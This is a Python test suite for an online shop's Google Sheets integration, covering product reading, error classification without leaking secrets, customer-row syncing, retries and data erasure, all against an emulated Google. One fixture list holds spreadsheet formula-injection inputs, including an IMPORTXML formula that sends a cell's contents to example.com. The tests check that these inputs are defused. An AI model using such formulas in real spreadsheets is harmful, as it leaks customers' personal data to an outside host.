from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from structlog.testing import capture_logs

from app.demo.faults import CutAfterAccepting, CutBefore, Slow, Status
from app.demo.google import Cell, EmulatedGoogle, GoogleFault
from app.demo.server import serving
from app.domain.conversation import Author, Conversation, OptOut
from app.domain.events import Item, Order, Stage
from app.errors import AiSellerError, Permanent, Refused, Transient
from app.gateways.google_sheets import BATCH_ROWS, EMPTY, GoogleSheet, KeptRow, Row
from app.log import get_logger
from app.store import keys
from app.store.claims import Settled, moment
from app.store.connection import connect
from app.store.contacts import Contacts
from app.store.mailbox import Mailbox
from app.store.sheet import Customers
from app.worker.customers_sheet import (
    CELL,
    MOST,
    CustomerStage,
    keep_in_step,
    row_of,
    stage_of,
)
from tests.builders import NOON
from tests.clock import Clock

ID = "1AbcDEFghijKLMnopQRStuvWXyz0123456789_-abcd"
URL = f"https://docs.google.com/spreadsheets/d/{ID}/edit?usp=sharing#gid=77"
EMAIL = "bot@shop-123.iam.gserviceaccount.com"
ALMATY = ZoneInfo("Asia/Almaty")
HEADER = ["phone", "name", "stage", "orders", "opted_out", "updated_at"]
AIGERIM, BOLAT, DANA = "77051234567", "77055554433", "77079998877"


@cache
def private_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ).decode()


def credentials(folder: Path, token_uri: str, **changes: object) -> Path:
    told = {
        "type": "service_account",
        "project_id": "shop-123",
        "private_key_id": "0123abcd",
        "private_key": private_key(),
        "client_email": EMAIL,
        "client_id": "100",
        "token_uri": token_uri,
    }
    path = folder / "google.json"
    path.write_text(json.dumps(told | changes), encoding="utf-8")
    return path


@asynccontextmanager
async def emulated(
    folder: Path, *, url: str = URL, patience: float = 5.0
) -> AsyncIterator[tuple[EmulatedGoogle, GoogleSheet]]:
    google = EmulatedGoogle(ID, EMAIL, Clock(NOON))
    async with serving(google.app) as base:
        key = credentials(folder, f"{base}/token")
        async with GoogleSheet(url, credentials=key, api=base, timeout=patience) as sheet:
            yield google, sheet
    assert google.unexpected == []


# -- the products


async def test_products_are_read_as_they_are_kept_from_the_worksheet_of_that_name(
    tmp_path: Path,
) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("Прочее", [["не то"]], id_=77)
        google.add(" Products", [["SKU", "price", "PP1"], ["007", 15990, None], [12, 9.5, "yes"]])
        rows = await sheet.read_products()
    assert rows == [["SKU", "price", "PP1"], ["007", 15990], [12, 9.5, "yes"]]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (URL, "named by the address"),
        (f"https://docs.google.com/spreadsheets/u/0/d/{ID}/edit?gid=77", "named by the address"),
        (
            f"https://docs.google.com/a/shop.kz/spreadsheets/d/{ID}/edit?gid=5#gid=77",
            "named by the address",
        ),
        (f" HTTPS://docs.google.com/u/1/spreadsheets/d/{ID} ", "the first one's"),
        (f"https://docs.google.com/spreadsheets/d/{ID}", "the first one's"),
        (f"https://docs.google.com/spreadsheets/d/{ID}/edit#gid=5", "the first one's"),
    ],
)
async def test_without_that_name_products_are_those_the_address_names_or_the_first(
    tmp_path: Path, url: str, expected: str
) -> None:
    async with emulated(tmp_path, url=url) as (google, sheet):
        google.add("Chart", id_=3, kind="OBJECT")
        google.add("customers", [HEADER])
        google.add("It's «мой» лист!", [["the first one's"]])
        google.add("Лист2", [["named by the address"]], id_=77)
        assert await sheet.read_products() == [[expected]]


async def test_an_empty_worksheet_has_no_rows(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("products")
        assert await sheet.read_products() == []


@pytest.mark.parametrize(
    "url",
    [
        "",
        "https://example.com/price.xml",
        "https://docs.google.com/spreadsheets/d/e/2PACX-1vQabcdefghijklmnop/pubhtml",
        "https://docs.google.com/document/d/1AbcDEFghijKLMnopQRStuvWXyz/edit",
    ],
)
def test_an_address_that_is_no_sheet_is_refused(tmp_path: Path, url: str) -> None:
    with pytest.raises(Refused) as refused:
        GoogleSheet(url, credentials=tmp_path / "none.json")
    assert refused.value.code == "bad_sheet_url"


# -- what goes wrong


@pytest.mark.parametrize(
    "content",
    [
        None,
        "",
        "not JSON",
        "[]",
        '{"type": "authorized_user", "refresh_token": "secret-1"}',
        '{"installed": {"client_secret": "secret-1"}}',
        '{"type": "service_account", "private_key": "secret-1"}',
        json.dumps(
            {
                "type": "service_account",
                "private_key": "-----BEGIN PRIVATE KEY-----\nsecret-1\n-----END PRIVATE KEY-----",
                "client_email": EMAIL,
                "token_uri": "http://localhost/token",
            }
        ),
        '{"type": "service_account", "private_key": 1, "client_email": [], "token_uri": {}}',
    ],
)
async def test_a_credentials_file_that_cannot_be_used_is_named_and_not_quoted(
    tmp_path: Path, content: str | None
) -> None:
    path = tmp_path / "key.json"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    async with GoogleSheet(URL, credentials=path) as sheet:
        with pytest.raises(Refused, match=r"key\.json") as refused:
            await sheet.read_products()
    assert refused.value.code == "bad_credentials"
    assert "secret" not in refused.value.reason
    assert str(tmp_path) not in refused.value.reason


def google_says(status: int, message: str = "", reason: str = "", **headers: str) -> Status:
    details = [{"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": reason}]
    error = {"code": status, "message": message, "status": "X", "details": details}
    return Status(
        status,
        body={"error": error},
        headers={name.replace("_", "-"): value for name, value in headers.items()},
    )


WRONG: list[tuple[GoogleFault, type[AiSellerError], str, float | None]] = [
    (Status(429, headers={"Retry-After": "17"}), Transient, "rate_limited", 17.0),
    (Status(429), Transient, "rate_limited", 60.0),
    (google_says(403, "Quota exceeded", "RATE_LIMIT_EXCEEDED"), Transient, "rate_limited", 60.0),
    (google_says(429, Retry_After="99999999"), Transient, "rate_limited", 3600.0),
    (google_says(429, Retry_After="soon"), Transient, "rate_limited", 60.0),
    (google_says(503, Retry_After="5"), Transient, "server_error", 5.0),
    (Status(500, body="<html>"), Transient, "server_error", None),
    (CutBefore(), Transient, "unreachable", None),
    (Slow(2.0), Transient, "timeout", None),
    (Status(302, headers={"Location": "https://example.com/"}), Transient, "redirect", None),
    (Status(200, body="<html>"), Transient, "bad_answer", None),
    (Status(200, body={"sheets": 7}), Transient, "bad_answer", None),
    (Status(200, body=[]), Transient, "bad_answer", None),
    (google_says(401), Refused, "unauthorized", None),
    (google_says(404), Refused, "not_found", None),
    (google_says(403, "The caller does not have permission"), Refused, "not_shared", None),
    (google_says(403, "API has not been used", "SERVICE_DISABLED"), Refused, "api_off", None),
    (Status(403, body="<html>"), Refused, "not_shared", None),
    (google_says(400, "not supported for this document"), Refused, "not_a_sheet", None),
    (google_says(400, "Invalid value «77051234567»"), Permanent, "bad_request", None),
    (Status(418, body={"error": "77051234567"}), Permanent, "bad_request", None),
]


async def test_what_goes_wrong_is_told_in_our_kinds_and_quotes_nothing(tmp_path: Path) -> None:
    async with emulated(tmp_path, patience=0.2) as (google, sheet):
        for fault, kind, code, wait in WRONG:
            google.faults.append(fault)
            with pytest.raises(kind) as raised:
                await sheet.read_products()
            assert (code, wait) == (raised.value.code, getattr(raised.value, "retry_after", None))
            assert raised.value.__cause__ is None
            for secret in (ID, AIGERIM, "ya29", "http"):
                assert secret not in raised.value.reason


async def test_who_has_not_shared_the_sheet_is_told_with_whom(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("products", [["SKU"]])
        google.role = None
        with pytest.raises(Refused, match=EMAIL):
            await sheet.read_products()
        google.role = "reader"
        assert await sheet.read_products() == [["SKU"]]
        with pytest.raises(Refused, match="as an editor"):
            await sheet.read_keys()


async def test_an_account_google_does_not_know_is_refused_and_tried_anew(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("products", [["SKU"]])
        google.token_faults.append(Status(400, body={"error": "invalid_grant"}))
        with pytest.raises(Refused) as refused:
            await sheet.read_products()
        assert refused.value.code == "unauthorized"
        assert google.requests == []
        assert await sheet.read_products() == [["SKU"]]


async def test_a_token_endpoint_that_is_no_googles_or_cuts_is_asked_again_later(
    tmp_path: Path,
) -> None:
    async with emulated(tmp_path) as (google, sheet):
        for fault in (CutBefore(), Status(200, body="<html>"), Status(200, body={"ok": True})):
            google.token_faults.append(fault)
            with pytest.raises(AiSellerError) as raised:
                await sheet.read_products()
            assert raised.value.__cause__ is None


async def test_one_token_serves_many_requests_and_none_goes_elsewhere(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("products", [["SKU"]])
        found = await asyncio.gather(*(sheet.read_products() for _ in range(3)))
        assert found == [[["SKU"]]] * 3
        assert google.token_requests == 1


async def test_a_google_that_hangs_takes_no_thread_from_others(tmp_path: Path) -> None:
    asked, over = asyncio.Event(), asyncio.Event()

    async def silent(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.set()
        await over.wait()
        writer.close()

    asyncio.get_running_loop().set_default_executor(ThreadPoolExecutor(1))
    async with await asyncio.start_server(silent, "127.0.0.1", 0) as server:
        base = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        key = credentials(tmp_path, f"{base}/token")
        async with GoogleSheet(URL, credentials=key, api=base, timeout=5) as sheet:
            reading = asyncio.create_task(sheet.read_products())
            await asked.wait()
            await asyncio.to_thread(int)
            assert not reading.done()
            over.set()
            with pytest.raises(Transient):
                await reading


# -- the customers' rows


def row(phone: str, name: str = "", at: str = "2026-11-23T12:00:00.000+05:00") -> Row:
    return (phone, name, "NURTURING", "[]", "no", at)


async def test_the_customers_worksheet_is_made_with_its_header_once(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("products")
        for _ in range(2):
            found = await sheet.read_keys()
            assert found.rows == ()
        assert google.worksheet("customers").rows == [HEADER]
        assert [made.title for made in google.worksheets] == ["products", "customers"]


async def test_an_older_sheet_with_fewer_columns_gets_the_missing_ones(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        old = google.add("Customers", [["Phone", "name", "Stage", "orders"], [77051234567, "А"]])
        old.column_count = 4
        found = await sheet.read_keys()
        assert found.rows == (KeptRow(number=2, phone=AIGERIM, updated_at=""),)
        assert old.rows[0] == ["Phone", "name", "Stage", "orders", "opted_out", "updated_at"]


@pytest.mark.parametrize(
    "header",
    [
        ["phone", "name", "stage", "orders", "комментарий"],
        ["id", "phone"],
        [AIGERIM, "Айгерим"],
        ["", "", "", "", "", "заметки"],
    ],
)
async def test_columns_that_are_somebody_elses_are_never_written(
    tmp_path: Path, header: list[str]
) -> None:
    async with emulated(tmp_path) as (google, sheet):
        google.add("customers", [[*header]])
        with pytest.raises(Refused) as refused:
            await sheet.read_keys()
        assert refused.value.code == "other_columns"
        assert AIGERIM not in refused.value.reason
        assert google.writes == []


async def test_phones_are_read_however_the_seller_wrote_them(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        cells: list[Cell] = [
            AIGERIM,
            77051234567.0,
            "+7 (705) 123-45-67",
            "8 705 123 45 67",
            "итого",
            None,
        ]
        google.add("customers", [HEADER, *[[cell] for cell in cells]])
        google.worksheet("customers").put(6, 5, "when")
        found = await sheet.read_keys()
        assert [kept.phone for kept in found.rows] == [AIGERIM] * 4 + ["итого", ""]
        assert [kept.number for kept in found.rows] == [2, 3, 4, 5, 6, 7]
        assert found.rows[-1].updated_at == "when"


DANGEROUS = [
    '=IMPORTXML("https://example.com/?" & A2, "//a")', "+77051234567", "-1+2", "@SUM(A1)", "'a",
    "00123", "1e5", "TRUE", "23.11.2026", "\t=1+1", "＝1+1",
]  # fmt: skip


async def test_whatever_a_text_begins_with_it_stays_the_text_it_is(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        found = await sheet.read_keys()
        await sheet.write_rows(found, new=[row(AIGERIM, name) for name in DANGEROUS])
        await sheet.write_rows(
            found, changed=[(at + 2, row(BOLAT, name)) for at, name in enumerate(DANGEROUS)]
        )
        await sheet.write_rows(found, new=[row(AIGERIM, name) for name in DANGEROUS])
        kept = google.worksheet("customers").rows[1:]
        assert [list(row(BOLAT, name)) for name in DANGEROUS] == kept[: len(DANGEROUS)]
        assert [list(row(AIGERIM, name)) for name in DANGEROUS] == kept[len(DANGEROUS) :]
        assert (google.formulas, google.converted) == (0, 0)


async def test_rows_travel_in_batches_that_are_neither_many_nor_large(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        found = await sheet.read_keys()
        before = len(google.writes)
        many = [row(f"7705{at:07}") for at in range(1100)]
        await sheet.write_rows(found, new=many)
        assert len(google.writes) - before == 3
        assert google.worksheet("customers").row_count >= 1101
        large = [(at + 2, row(f"7705{at:07}", "я" * 40_000)) for at in range(60)]
        await sheet.write_rows(found, changed=large)
        assert len(google.writes) - before == 6
        assert google.rows_written == 1160 + 1


async def test_new_rows_go_below_all_others_whatever_gaps_there_are(tmp_path: Path) -> None:
    async with emulated(tmp_path) as (google, sheet):
        found = await sheet.read_keys()
        await sheet.write_rows(found, new=[row(AIGERIM), row(BOLAT)])
        customers = google.worksheet("customers")
        customers.put(6, 8, "заметка продавца")
        await sheet.write_rows(found, changed=[(2, EMPTY)], new=[row(DANA)])
        assert customers.rows[1] == []
        assert customers.rows[2][0] == BOLAT
        assert customers.rows[6] == [""] * 8 + ["заметка продавца"]
        assert customers.rows[7][0] == DANA


# -- in step with the store


@dataclass
class Shop:
    """A shop with its store, its sheet, and its people."""

    google: EmulatedGoogle
    sheet: GoogleSheet
    contacts: Contacts
    mailbox: Mailbox
    customers: Customers
    clock: Clock = field(default_factory=lambda: Clock(NOON))

    async def knows(self, chat: str, *, at: datetime | None = None, **fields: object) -> None:
        """Somebody changes, in a turn booked at that time."""
        claimed = await self.mailbox.look(chat)
        known = claimed.conversation or Conversation(chat=chat, since=NOON)
        told = {"chat": chat, "since": NOON, "name": known.name, "orders": known.orders} | fields
        settled = Settled(conversation=Conversation(**told))  # type: ignore[arg-type]
        await self.mailbox.commit(claimed, settled, now=at or self.clock.now())

    async def forgets(self, chat: str) -> None:
        known = (await self.mailbox.look(chat)).conversation
        assert known is not None
        await self.contacts.erase(known, messages=(), asked_for=())

    async def step(self, *, minutes: float = 1, most: int = MOST) -> int:
        self.clock.advance(minutes=minutes)
        return await keep_in_step(
            self.sheet,
            self.customers,
            now=self.clock.now(),
            zone=ALMATY,
            log=get_logger("test"),
            most=most,
        )

    @property
    def rows(self) -> list[list[object]]:
        return [list(line) for line in self.google.worksheet("customers").rows[1:]]

    @property
    def phones(self) -> list[object]:
        return [line[0] if line else "" for line in self.rows]


@pytest.fixture
async def shop(tmp_path: Path, store_url: str) -> AsyncIterator[Shop]:
    redis = connect(store_url)

    async def nobody(_chats: dict[str, datetime]) -> None: ...

    async with emulated(tmp_path) as (google, sheet):
        yield Shop(google, sheet, Contacts(redis), Mailbox(redis, nobody), Customers(redis))
    await redis.aclose()


def bought(stage: Stage, code: str = "912000001", *, day: int = 20) -> Order:
    return Order(
        code=code,
        shop="default",
        stage=stage,
        items=(Item(name="Куртка", sku="1_2", price=15990.0),),
        total=15990.0,
        created_at=datetime(2026, 11, day, tzinfo=UTC),
    )


async def test_who_is_known_is_shown_with_all_six_columns(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="Айгерим", orders=(bought(Stage.DELIVERED),))
    stop = OptOut(at=NOON, by=Author.CUSTOMER)
    later = NOON + timedelta(seconds=1)
    await shop.knows(BOLAT, at=later, orders=(bought(Stage.PAID),), opt_out=stop)
    await shop.knows("lid:211111111111111", name="Кто-то")
    assert await shop.step() == 2
    first, second = shop.rows
    orders = first.pop(3)
    assert first == [
        AIGERIM, "Айгерим", "ORDER_DELIVERED", "no", "2026-11-23T12:00:00.000+05:00",
    ]  # fmt: skip
    assert json.loads(str(orders)) == [
        {
            "code": "912000001",
            "shop": "default",
            "stage": "delivered",
            "total": 15990.0,
            "created_at": "2026-11-20T00:00:00Z",
            "items": [
                {"name": "Куртка", "sku": "1_2", "quantity": 1, "price": 15990.0, "card": None}
            ],
        }
    ]
    assert second[:3] == [BOLAT, "", "POST_PURCHASE"]
    assert second[4] == "yes"


async def test_only_who_changed_is_written_and_a_quiet_shop_asks_google_nothing(
    shop: Shop,
) -> None:
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.knows(BOLAT)
    assert await shop.step() == 2
    await shop.step(minutes=10)
    asked = len(shop.google.requests)
    assert await shop.step() == 0
    assert len(shop.google.requests) == asked
    await shop.knows(BOLAT, name="Болат")
    assert await shop.step() == 1
    assert [line[1] for line in shop.rows] == ["Айгерим", "Болат"]


async def test_a_turn_booked_before_the_last_run_and_settled_after_it_is_seen(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="до")
    await shop.step()
    await shop.step()
    await shop.knows(AIGERIM, name="после", at=shop.clock.now() - timedelta(minutes=3))
    assert await shop.step() == 1
    assert shop.rows[0][1] == "после"


async def test_many_people_take_several_runs_and_each_is_there_once(shop: Shop) -> None:
    people = [f"7705{at:07}" for at in range(23)]
    await asyncio.gather(*map(shop.knows, people))
    assert [await shop.step(most=10) for _ in range(4)] == [10, 10, 3, 0]
    assert shop.phones == people


@pytest.mark.parametrize("fault", [CutBefore(), CutAfterAccepting()])
@pytest.mark.parametrize("before", range(6))
async def test_a_failure_at_any_request_repeats_until_all_is_there_once(
    shop: Shop, fault: GoogleFault, before: int
) -> None:
    for phone in (AIGERIM, BOLAT, DANA):
        await shop.knows(phone)
    shop.google.faults.extend([Slow(0)] * before + [fault])
    assert await shop.step() == 0
    assert not shop.google.faults
    await shop.step()
    assert sorted(map(str, shop.phones)) == sorted([AIGERIM, BOLAT, DANA])
    assert shop.google.worksheet("customers").rows[0] == HEADER


async def test_a_failure_between_two_batches_repeats_only_what_is_missing(shop: Shop) -> None:
    people = [f"7705{at:07}" for at in range(BATCH_ROWS + 50)]
    await asyncio.gather(*map(shop.knows, people))
    shop.google.faults.extend([Slow(0)] * 6 + [CutBefore()])
    await shop.step()
    assert shop.phones == people[:BATCH_ROWS]
    await shop.step()
    assert shop.phones == people
    assert shop.google.rows_written == 1 + len(people)


async def test_all_who_changed_are_found_however_many_at_one_moment(shop: Shop) -> None:
    times = {f"7705{at:07}": float(1000 + at // 600 * 600 + at % 7 // 6) for at in range(3900)}
    times |= {f"7706{at:07}": 2200.0 for at in range(2500)}
    await shop.customers._redis.zadd(keys.chats(), {**times, "lid:1": 5.0})
    found = await shop.customers.changed(None)
    assert found == {phone: moment(at) for phone, at in times.items()}
    since = datetime.fromtimestamp(2.2, UTC)
    assert set(await shop.customers.changed(since)) == {p for p in times if times[p] >= 2200}
    assert await shop.customers.unknown(["1", *times, "2"]) == {"1", "2"}


async def test_two_workers_at_once_leave_one_row_of_each(shop: Shop) -> None:
    await asyncio.gather(*map(shop.knows, (AIGERIM, BOLAT, DANA)))
    await shop.sheet.read_keys()
    await asyncio.gather(shop.step(), shop.step())
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    await shop.step()
    assert sorted(phone for phone in map(str, shop.phones) if phone) == [AIGERIM, BOLAT, DANA]
    assert "Айгерим" in [line[1] for line in shop.rows if line]


async def test_a_row_written_twice_by_a_late_request_is_one_again(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    kept = shop.google.worksheet("customers")
    kept.cells.append([*kept.cells[1]])
    kept.put(2, 7, "моё")
    await shop.knows(BOLAT)
    await shop.step()
    assert shop.phones == [AIGERIM, "", BOLAT]
    assert shop.rows[1] == [""] * 7 + ["моё"]


async def test_what_is_the_sellers_own_stays(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    kept = shop.google.worksheet("customers")
    kept.cells[0] += ["скидка", "заметка"]
    kept.cells[1] += ["10%", "постоянный"]
    kept.cells.insert(1, ["+7 701 555 66 77", "Мой клиент", None, None, None, None, "5%"])
    kept.cells.insert(1, [None, "итого", 5])
    before = [list(line) for line in kept.cells[:3]]
    await shop.knows(AIGERIM, name="Айгерим К.")
    await shop.knows(BOLAT)
    await shop.step()
    await shop.step(minutes=2 * 24 * 60)
    assert kept.cells[:3] == before
    assert kept.cells[3][:2] == [AIGERIM, "Айгерим К."]
    assert kept.cells[3][6:] == ["10%", "постоянный"]
    assert kept.cells[4][0] == BOLAT
    assert len(shop.rows) == 4


async def test_an_older_sheets_row_of_the_same_person_is_taken_on(shop: Shop) -> None:
    shop.google.add("customers", [HEADER[:4], [77051234567, "А", "NURTURING", "[]", None, None, 1]])
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    assert len(shop.rows) == 1
    assert shop.rows[0][:2] == [AIGERIM, "Айгерим"]
    assert shop.rows[0][6] == 1


async def test_rows_are_found_after_the_seller_sorted_them(shop: Shop) -> None:
    for phone in (AIGERIM, BOLAT, DANA):
        await shop.knows(phone)
    await shop.step()
    kept = shop.google.worksheet("customers")
    kept.cells[1:] = reversed(kept.cells[1:])
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    assert [line[:2] for line in shop.rows] == [[DANA, ""], [BOLAT, ""], [AIGERIM, "Айгерим"]]


async def test_who_was_erased_leaves_the_sheet_with_the_next_run(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.knows(BOLAT)
    await shop.step()
    shop.google.worksheet("customers").put(1, 6, "заметка")
    await shop.step(minutes=20)
    await shop.forgets(AIGERIM)
    assert await shop.step() == 1
    assert shop.rows[0] == [""] * 6 + ["заметка"]
    assert shop.phones == ["", BOLAT]
    assert await shop.step() == 0


async def test_who_was_erased_while_google_was_away_leaves_it_afterwards(shop: Shop) -> None:
    await shop.knows(AIGERIM)
    await shop.step()
    shop.google.faults.append(Status(500))
    await shop.knows(BOLAT)
    await shop.step()
    await shop.forgets(AIGERIM)
    await shop.step(minutes=10)
    assert AIGERIM not in shop.phones
    assert BOLAT in shop.phones


async def test_the_cursor_holds_nobodys_phone(shop: Shop) -> None:
    await shop.knows(AIGERIM, name="Айгерим")
    await shop.step()
    await shop.forgets(AIGERIM)
    await shop.step()
    assert AIGERIM.encode() not in await shop.customers._redis.get(keys.sheet_cursor())


async def test_a_store_that_lost_its_people_does_not_empty_the_sheet(shop: Shop) -> None:
    await shop.knows(AIGERIM)
    await shop.knows(BOLAT)
    await shop.step()
    await shop.customers._redis.flushall()
    shop.clock.advance(minutes=30)
    await shop.knows(DANA)
    await shop.step()
    assert shop.phones == [AIGERIM, BOLAT, DANA]


async def test_what_the_seller_deleted_comes_back(shop: Shop) -> None:
    await shop.knows(AIGERIM)
    await shop.knows(BOLAT)
    await shop.step()
    kept = shop.google.worksheet("customers")
    del kept.cells[1]
    await shop.step(minutes=25 * 60)
    assert shop.phones == [BOLAT, AIGERIM]
    shop.google.worksheets.remove(kept)
    await shop.knows(DANA)
    await shop.step()
    assert sorted(map(str, shop.phones)) == sorted([AIGERIM, BOLAT, DANA])


async def test_an_outage_is_told_once_and_asked_about_less_and_less(shop: Shop) -> None:
    await shop.knows(AIGERIM)
    shop.google.faults.extend([Status(500)] * 5)
    with capture_logs() as lines:
        for _ in range(40):
            await shop.step()
    told = [line["event"] for line in lines]
    assert told == ["customers_sheet_late", "customers_sheet_back", "customers_sheet"]
    assert len(shop.google.faults) == 0
    assert AIGERIM not in repr(lines)
    assert shop.phones == [AIGERIM]


async def test_google_is_left_alone_for_as_long_as_it_asks(shop: Shop) -> None:
    await shop.knows(AIGERIM)
    shop.google.faults.append(Status(429, headers={"Retry-After": "300"}))
    await shop.step()
    asked = len(shop.google.requests)
    for _ in range(4):
        await shop.step()
    assert len(shop.google.requests) == asked
    assert await shop.step() == 1


async def test_without_a_sheet_there_is_nothing_to_do(shop: Shop) -> None:
    log = get_logger("test")
    assert await keep_in_step(None, shop.customers, now=NOON, zone=ALMATY, log=log) == 0


async def test_another_sheet_is_filled_from_the_beginning(shop: Shop, tmp_path: Path) -> None:
    await shop.knows(AIGERIM)
    await shop.step(minutes=60)
    other = ID.replace("1Abc", "2Abc")
    shop.google.spreadsheet = other
    shop.google.worksheets.clear()
    base = shop.sheet._api
    key = credentials(tmp_path, f"{base}/token")
    url = f"https://docs.google.com/spreadsheets/d/{other}/edit"
    async with GoogleSheet(url, credentials=key, api=base) as sheet:
        shop.sheet = sheet
        await shop.step()
    assert shop.phones == [AIGERIM]


# -- a customer as a row


@pytest.mark.parametrize(
    ("orders", "expected"),
    [
        ((), CustomerStage.NURTURING),
        ((bought(Stage.PAID),), CustomerStage.POST_PURCHASE),
        ((bought(Stage.HANDED_OVER),), CustomerStage.POST_PURCHASE),
        ((bought(Stage.WAITING_FOR_SIGNATURE),), CustomerStage.POST_PURCHASE),
        ((bought(Stage.DELIVERED),), CustomerStage.ORDER_DELIVERED),
        ((bought(Stage.CANCELLED),), CustomerStage.NURTURING),
        ((bought(Stage.RETURNED),), CustomerStage.NURTURING),
        ((bought(Stage.UNKNOWN),), CustomerStage.NURTURING),
        (
            (bought(Stage.DELIVERED, "1", day=21), bought(Stage.PAID, "2", day=20)),
            CustomerStage.ORDER_DELIVERED,
        ),
        (
            (bought(Stage.DELIVERED, "1", day=20), bought(Stage.PAID, "2", day=21)),
            CustomerStage.POST_PURCHASE,
        ),
        (
            (bought(Stage.DELIVERED, "1", day=20), bought(Stage.CANCELLED, "2", day=21)),
            CustomerStage.NURTURING,
        ),
        (
            (bought(Stage.PACKED, "1", day=20), bought(Stage.CANCELLED, "2", day=21)),
            CustomerStage.POST_PURCHASE,
        ),
    ],
)
def test_the_stage_is_that_of_the_newest_order_or_of_one_under_way(
    orders: tuple[Order, ...], expected: CustomerStage
) -> None:
    assert stage_of(orders) is expected


def test_a_cell_holds_the_newest_orders_that_fit() -> None:
    items = tuple(Item(name="я" * 900) for _ in range(10))
    orders = tuple(
        Order(code=str(at), shop="default", stage=Stage.PAID, items=items) for at in range(20)
    )
    known = Conversation(chat=AIGERIM, since=NOON, orders=orders, name="Ай\x00гер\nим  С " * 90)
    shown = row_of(known, "when")
    assert len(shown[3]) <= CELL
    codes = [order["code"] for order in json.loads(shown[3])]
    assert codes == [str(at) for at in range(20)][-len(codes) :]
    assert len(codes) >= 4
    assert shown[1].isprintable()
    assert len(shown[1]) == 200
